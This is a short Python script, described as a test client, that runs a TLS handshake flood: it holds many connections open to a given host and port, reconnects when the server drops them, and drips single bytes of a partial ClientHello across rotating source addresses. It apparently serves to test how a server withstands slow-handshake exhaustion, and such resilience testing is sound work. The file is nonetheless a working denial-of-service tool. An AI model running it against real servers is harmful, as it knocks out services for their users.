"""Test client: a TLS handshake flood. Keeps COUNT connections to HOST:PORT
open for SECONDS, reopening those the server closes (an attacker that
simply reconnects). `stall` sends nothing; `drip` sends one byte of a TLS
record every 0.5 s, never a whole ClientHello. Connects from the SOURCE
addresses round robin (default: the kernel's choice). Bounded: at most
MAX_TRIES connects in all. Prints a JSON summary at the end.

usage: flood_client.py HOST PORT COUNT SECONDS stall|drip [SOURCE...]"""
import json, resource, selectors, socket, sys, time

host, port, count, seconds, mode = (
    sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
sources = sys.argv[6:] or [None]
MAX_TRIES = 100_000
# A TLS handshake record header and the start of a ClientHello.
DRIP = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03]) + bytes(500)

_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
family = socket.AF_INET6 if ":" in host else socket.AF_INET
sel = selectors.DefaultSelector()
sent = {}  # socket -> bytes of DRIP sent
stats = {"tried": 0, "connected": 0, "refused": 0, "closed_by_server": 0, "max_open": 0}


def open_one(i):
    stats["tried"] += 1
    s = socket.socket(family, socket.SOCK_STREAM)
    src = sources[i % len(sources)]
    try:
        if src:
            s.bind((src, 0))
        s.settimeout(2)
        s.connect((host, port))
    except OSError:
        stats["refused"] += 1
        s.close()
        return
    stats["connected"] += 1
    s.setblocking(False)
    sel.register(s, selectors.EVENT_READ)
    sent[s] = 0


deadline = time.time() + seconds
next_drip = time.time()
i = 0
while time.time() < deadline and stats["tried"] < MAX_TRIES:
    # Top up to COUNT open connections (at most COUNT tries a round).
    for _ in range(count - len(sent)):
        if time.time() >= deadline or stats["tried"] >= MAX_TRIES:
            break
        open_one(i)
        i += 1
    stats["max_open"] = max(stats["max_open"], len(sent))
    for key, _ in sel.select(timeout=0.1):
        s = key.fileobj
        try:
            gone = not s.recv(4096)
        except BlockingIOError:
            gone = False
        except OSError:
            gone = True
        if gone:
            stats["closed_by_server"] += 1
            sel.unregister(s)
            del sent[s]
            s.close()
    if mode == "drip" and time.time() >= next_drip:
        next_drip = time.time() + 0.5
        for s, n in list(sent.items()):
            try:
                s.send(DRIP[n:n + 1])
                sent[s] = n + 1
            except OSError:
                pass
print(json.dumps(stats), flush=True)
